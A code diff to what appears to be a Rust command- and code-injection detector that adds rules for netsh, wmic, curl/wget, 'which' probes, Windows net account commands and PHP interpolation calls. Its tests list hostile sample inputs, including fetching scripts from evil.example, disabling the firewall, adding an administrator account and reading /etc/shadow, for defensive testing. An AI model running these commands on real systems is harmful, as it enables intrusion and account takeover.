@@ -95,6 +95,7 @@ const COMMANDS: &[&str] = &[
     "bitsadmin",
     "reg",
     "wmic",
+    "netsh",
     "mshta",
     "rundll32",
     "regsvr32",
@@ -536,8 +537,9 @@ pub fn detect(lower: &str, out: &mut Vec<Finding>) {
             }
         }
     }
-    // A value that is a command line: `uname -a`, `perl -e '...'`, `whoami`.
-    let trimmed = lower.trim_start();
+    // A value that is a command line: `uname -a`, `perl -e '...'`, `whoami`, also after a
+    // quote that closes the application's string (`' whoami`).
+    let trimmed = lower.trim_start_matches([' ', '\t', '\n', '\r', '\'', '"']);
     let offset = lower.len() - trimmed.len();
     if let Some((name, end)) = command_at(trimmed, 0) {
         let args = shell_arguments(trimmed, end);
@@ -545,6 +547,41 @@ pub fn detect(lower: &str, out: &mut Vec<Finding>) {
             name,
             "whoami" | "uname" | "ifconfig" | "ipconfig" | "netstat" | "systeminfo" | "tasklist"
         );
+        // Windows' administration tools with one of their contexts (`netsh firewall ...`,
+        // `wmic process ...`): "netsh is a Windows command" is a sentence.
+        let admin = matches!(name, "netsh" | "wmic")
+            && trimmed[end..]
+                .split_whitespace()
+                .next()
+                .is_some_and(|context| {
+                    context.starts_with(['/', '-'])
+                        || matches!(
+                            context,
+                            "firewall"
+                                | "advfirewall"
+                                | "interface"
+                                | "int"
+                                | "wlan"
+                                | "winsock"
+                                | "http"
+                                | "ipsec"
+                                | "routing"
+                                | "process"
+                                | "os"
+                                | "useraccount"
+                                | "service"
+                                | "nicconfig"
+                                | "shadowcopy"
+                                | "qfe"
+                                | "computersystem"
+                                | "startup"
+                        )
+                });
+        // Fetchers take URLs, timers take numbers: in their arguments those are as
+        // shell-shaped as a path (`curl https://host/x`, `sleep 10`, where "sleep 10 hours
+        // a night" is a sentence).
+        let fetcher = matches!(name, "curl" | "wget");
+        let timer = matches!(name, "sleep" | "timeout");
         // Every argument shaped like a shell's (an option, a path, a variable): `cat
         // /etc/passwd`, `sort -r ~/.ssh/known_hosts`, where "cat /etc/hosts shows the hosts"
         // is a sentence.
@@ -554,10 +591,17 @@ pub fn detect(lower: &str, out: &mut Vec<Finding>) {
                     || (arg.len() >= 3
                         && arg.as_bytes()[1] == b':'
                         && arg.as_bytes()[0].is_ascii_alphabetic())
+                    || (fetcher
+                        && ["http://", "https://", "ftp://"]
+                            .iter()
+                            .any(|scheme| arg.starts_with(scheme)))
+                    || (timer && arg.bytes().all(|b| b.is_ascii_digit()))
             });
         if (args == 2 && (!WORDY.contains(&name) || shell_only) && trimmed.len() > end)
+            || (fetcher && args >= 1 && shell_only)
             || (recon && trimmed[end..].trim().is_empty())
             || (recon && args == 2)
+            || admin
         {
             keep(Finding::new(
                 ThreatType::CommandInjection,
@@ -568,15 +612,72 @@ pub fn detect(lower: &str, out: &mut Vec<Finding>) {
             ));
         }
     }
-    if let Some(p) = find!(lower, "net user ").or_else(|| find!(lower, "net localgroup ")) {
-        if lower[..p].trim_end().ends_with(['&', '|', ';']) || p == 0 {
+    // `which curl`: asking where the tools a later payload needs are.
+    if let Some(tool) = trimmed.strip_prefix("which ") {
+        let tool = tool.trim();
+        if matches!(
+            tool,
+            "curl"
+                | "wget"
+                | "nc"
+                | "ncat"
+                | "netcat"
+                | "socat"
+                | "perl"
+                | "python"
+                | "python3"
+                | "php"
+                | "ruby"
+                | "gcc"
+                | "bash"
+                | "sh"
+                | "nmap"
+                | "busybox"
+        ) {
+            keep(Finding::new(
+                ThreatType::CommandInjection,
+                Severity::High,
+                0.7,
+                offset,
+                lower.len(),
+            ));
+        }
+    }
+    // Windows' `net` command with the subcommands that enumerate or add accounts and shares,
+    // where a command starts.
+    static NET: [Literal; 6] = [
+        Literal::new("net user"),
+        Literal::new("net localgroup"),
+        Literal::new("net view"),
+        Literal::new("net share"),
+        Literal::new("net session"),
+        Literal::new("net accounts"),
+    ];
+    let net: &[Literal] = if contains!(lower, "net ") { &NET } else { &[] };
+    for command in net {
+        let Some(p) = command.find(lower) else {
+            continue;
+        };
+        let after = lower.as_bytes().get(p + command.as_str().len());
+        let whole_word = matches!(after, None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'/'));
+        let after_separator = lower[..p].trim_end().ends_with(['&', '|', ';', '\n']);
+        // At the start of the value, the rest must read as the command's own: nothing, a
+        // switch (`/add`), a host (`\\\\server`); "Net view of the balance sheet" is prose.
+        let rest = &lower[(p + command.as_str().len()).min(lower.len())..];
+        let command_line = p == 0
+            && (rest.trim().is_empty()
+                || rest
+                    .split_whitespace()
+                    .any(|arg| arg.starts_with('/') || arg.starts_with("\\\\")));
+        if whole_word && (after_separator || command_line) {
             keep(Finding::new(
                 ThreatType::CommandInjection,
                 Severity::High,
                 0.85,
                 p,
-                p + 8,
+                p + command.as_str().len(),
             ));
+            break;
         }
     }
     // Shell tricks that only attackers write.
@@ -814,26 +915,18 @@ static EXEC_FUNCTIONS: [Literal; 10] = [
 pub fn detect_code(text: &str, lower: &str, out: &mut Vec<Finding>) {
     static CODE_NEEDLES: std::sync::OnceLock<Needles> = std::sync::OnceLock::new();
     let needles = Needles::cached(&CODE_NEEDLES, || CODE.iter().map(|(n, _, _)| *n).collect());
-    let mut best: Option<Finding> = None;
+    let mut best = Strongest::default();
     let mut signs = 0;
     for (index, p) in needles.first_of_each(lower) {
         let (needle, severity, confidence) = &CODE[index];
-        {
-            signs += 1;
-            let f = Finding::new(
-                ThreatType::CodeInjection,
-                *severity,
-                *confidence,
-                p,
-                p + needle.len(),
-            );
-            if best
-                .as_ref()
-                .is_none_or(|x| (f.severity, f.confidence) > (x.severity, x.confidence))
-            {
-                best = Some(f);
-            }
-        }
+        signs += 1;
+        best.keep(Finding::new(
+            ThreatType::CodeInjection,
+            *severity,
+            *confidence,
+            p,
+            p + needle.len(),
+        ));
     }
     // An interpreter's exec function given a shell command: `system('id')`, `eval('sleep 5')`.
     let quoted_call = contains!(lower, "('") || contains!(lower, "(\"") || contains!(lower, "(`");
@@ -857,15 +950,30 @@ pub fn detect_code(text: &str, lower: &str, out: &mut Vec<Finding>) {
                             p,
                             k + end + 1,
                         );
-                        if best
-                            .as_ref()
-                            .is_none_or(|x| (f.severity, f.confidence) > (x.severity, x.confidence))
-                        {
-                            best = Some(f);
-                        }
+                        best.keep(f);
                     }
                 }
             }
+        }
+    }
+    // PHP's complex interpolation running a function: `{${sleep(5)}}`, `{${system('id')}}`.
+    // (`${${variable}}` in a template is a nested placeholder, not a call.)
+    if let Some(p) = find!(lower, "{${") {
+        let after = &lower.as_bytes()[p + 3..];
+        let name = after
+            .iter()
+            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+            .count();
+        if name > 0 && after.get(name) == Some(&b'(') {
+            signs += 1;
+            let f = Finding::new(
+                ThreatType::CodeInjection,
+                Severity::High,
+                0.85,
+                p,
+                p + 3 + name + 1,
+            );
+            best.keep(f);
         }
     }
     // Serialized Java (raw hex, base64) and gzip in base64.
@@ -882,7 +990,7 @@ pub fn detect_code(text: &str, lower: &str, out: &mut Vec<Finding>) {
             } else {
                 Severity::High
             };
-            best = Some(Finding::new(
+            best.keep(Finding::new(
                 ThreatType::CodeInjection,
                 severity,
                 0.85,
@@ -892,7 +1000,7 @@ pub fn detect_code(text: &str, lower: &str, out: &mut Vec<Finding>) {
             signs += 1;
         }
     }
-    if let Some(mut f) = best {
+    if let Some(mut f) = best.into_inner() {
         // Several code markers in one value: code, and somewhere it should not be.
         if f.severity == Severity::Medium && signs >= 3 {
             f.severity = Severity::High;
@@ -958,6 +1066,17 @@ mod tests {
             "cat /etc/shadow",
             "type C:\\Windows\\win.ini",
             ";iwr http://evil.example/x.ps1",
+            "sleep 10",
+            "curl https://evil.example/x.sh",
+            "wget http://10.0.0.5/s.pl -O /tmp/s",
+            "which nc",
+            "' whoami",
+            "netsh advfirewall set allprofiles state off",
+            "wmic process call create calc",
+            "net view",
+            "net user hacker P@ss /add",
+            "| net localgroup administrators hacker /add",
+            "{${sleep(5)}}",
         ] {
             assert_eq!(severity(attack), Some(Severity::High), "missed {attack:?}");
         }
@@ -965,6 +1084,14 @@ mod tests {
             "cat /etc/hosts shows the hosts file",
             "cat and dog",
             "sort by name",
+            "sleep 8 hours a night",
+            "curl https://api.example.com/v1/users returns 403, why?",
+            "which one is better",
+            "netsh is a Windows command, how do I use it?",
+            "Net view of the balance sheet",
+            "net user growth this quarter",
+            "' whoami do you know",
+            "${${variable}} is a nested placeholder",
         ] {
             assert!(
                 severity(prose).is_none_or(|s| s < Severity::High),
